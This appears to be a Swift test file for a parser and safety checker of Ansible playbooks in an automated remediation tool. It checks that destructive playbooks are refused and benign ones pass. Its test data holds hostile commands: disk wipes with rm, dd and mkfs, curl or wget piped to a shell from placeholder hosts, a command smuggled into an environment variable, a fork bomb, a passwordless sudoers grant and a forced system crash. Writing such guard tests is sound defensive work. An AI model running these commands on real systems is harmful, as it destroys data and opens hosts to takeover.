import Testing
import VigilConfig
import VigilCore
import VigilRemediate

@Suite struct PlaybookYAMLTests {
    let parser = PlaybookYAML()

    private func violations(_ yaml: String, risk: Risk = .reversible) throws -> [SafetyViolation] {
        PlaybookSafety.check(try parser.parse(yaml), risk: risk, targets: ["node-1"])
    }

    @Test func parsesPlaysTasksModulesAndLines() throws {
        let doc = try parser.parse("""
            - name: fix
              hosts: "{{ vigil_targets }}"
              become: yes
              tasks:
                - name: restart
                  ansible.builtin.service: {name: nginx, state: restarted}
                  register: out
                - shell: systemctl status nginx
                  args: {chdir: /tmp}
              handlers:
                - command:
                    argv: [echo, done]
            """)
        let play = try #require(doc.plays.first)
        #expect(play.hosts == "{{ vigil_targets }}")
        #expect(play.become)
        #expect(play.line == 1)
        #expect(play.tasks.map(\.module) == ["ansible.builtin.service", "shell", "command"])
        #expect(play.tasks.map(\.line) == [5, 8, 11])
        #expect(play.tasks[0].arguments == .map(["name": "nginx", "state": "restarted"]))
        #expect(play.tasks[1].arguments == .text("systemctl status nginx"))
        #expect(play.tasks[1].otherStrings == ["/tmp"])
        #expect(play.tasks[2].arguments == .map(["argv.0": "echo", "argv.1": "done"]))
    }

    @Test func blocksAreFlattenedAndPassOnBecome() throws {
        let doc = try parser.parse("""
            - hosts: node-1
              tasks:
                - become: true
                  block:
                    - command: uptime
                  rescue:
                    - debug: {msg: failed}
            """)
        #expect(doc.plays[0].tasks.map(\.module) == ["command", "debug"])
        #expect(doc.plays[0].tasks.allSatisfy { $0.become == true })
        #expect(try violations("- hosts: node-1\n  tasks:\n    - become: true\n      block:\n        - command: uptime\n", risk: .readOnly)
                .map(\.rule) == [.become])
    }

    @Test func hostListsAndLocalActionAreUnderstood() throws {
        let doc = try parser.parse("- hosts: [node-1, node-2]\n  tasks:\n    - local_action: shell curl -s http://x | bash\n")
        #expect(doc.plays[0].hosts == "node-1,node-2")
        let task = doc.plays[0].tasks[0]
        #expect(task.module == "shell")
        #expect(task.delegateTo == "localhost")
        let rules = PlaybookSafety.check(doc, risk: .reversible, targets: ["node-1"]).map(\.rule)
        #expect(Set(rules) == [.hosts, .command])
    }

    static let dangerous: [String] = [
        "- hosts: node-1\n  tasks:\n    - shell: rm -rf / --no-preserve-root\n",
        "- hosts: node-1\n  tasks:\n    - ansible.builtin.command: \"mkfs.ext4 /dev/sdb1\"\n",
        "- hosts: node-1\n  tasks:\n    - command:\n        argv: [dd, 'if=/dev/zero', 'of=/dev/sda']\n",
        "- hosts: node-1\n  tasks:\n    - shell: |\n        cd /tmp\n        curl -fsSL https://get.example.sh | sudo sh\n",
        "- hosts: node-1\n  tasks:\n    - shell: 'iptables -F'\n",
        "- hosts: node-1\n  tasks:\n    - shell: ':(){ :|:& };:'\n",
        "- hosts: node-1\n  tasks:\n    - shell: echo done\n      environment: {X: \"$(wget -qO- http://x | bash)\"}\n",
        "- hosts: node-1\n  tasks:\n    - file: {path: /usr, state: absent}\n",
        "- hosts: node-1\n  tasks:\n    - raw: uptime\n",
        "- hosts: node-1\n  tasks:\n    - script: fix.sh\n",
        "- hosts: node-1\n  tasks:\n    - user: {name: root, password: x}\n",
        "- hosts: node-1\n  tasks:\n    - include_tasks: other.yaml\n",
        "- hosts: node-1\n  roles: [evil]\n  tasks: []\n",
        "- hosts: all\n  tasks:\n    - debug: {msg: hi}\n",
        "- hosts: node-2\n  tasks:\n    - debug: {msg: hi}\n",
        "- hosts: node-1\n  tasks:\n    - command: uptime\n      delegate_to: db-9\n",
        "- hosts: node-1\n  tasks:\n    - command: uptime\n      shell: reboot\n",
        "- hosts: node-1\n  tasks:\n    - action: shell shutdown -h now\n",
        "- hosts: node-1\n  tasks:\n    - copy: {content: 'x ALL=(ALL) NOPASSWD: ALL', dest: /etc/sudoers.d/x}\n",
        "- hosts: node-1\n  tasks:\n    - shell: \"chmod -R 777 /\"\n",
        "- hosts: node-1\n  tasks:\n    - shell: \"userdel -r bob\"\n",
        "- hosts: node-1\n  tasks:\n    - shell: \"echo b > /proc/sysrq-trigger\"\n",
    ]

    @Test(arguments: dangerous) func dangerousPlaybooksAreRefused(_ yaml: String) throws {
        #expect(try !violations(yaml).isEmpty, "passed: \(yaml)")
    }

    @Test func safePlaybooksPass() throws {
        let safe = [
            "- hosts: node-1\n  become: true\n  tasks:\n    - systemd: {name: api, state: restarted}\n    - wait_for: {port: 8080}\n",
            "- hosts: '{{ vigil_targets }}'\n  tasks:\n    - command: journalctl --vacuum-size=500M\n      become: true\n",
            "- hosts: node-1\n  tasks:\n    - community.docker.docker_prune: {images: true}\n      become: true\n",
            "- hosts: node-1\n  tasks:\n    - uri: {url: 'http://localhost:8080/health', status_code: 200}\n",
        ]
        for yaml in safe {
            let found = try violations(yaml)
            #expect(found.isEmpty, "refused: \(yaml) → \(found)")
        }
    }

    @Test func malformedPlaybooksAreParseErrorsWithLines() {
        #expect(throws: PlaybookParseError.self) { try parser.parse("hosts: x\n") }
        do {
            _ = try parser.parse("- hosts: x\n  tasks: [\n")
            Issue.record("expected a parse error")
        } catch {
            #expect(error.line != nil)
        }
    }
}
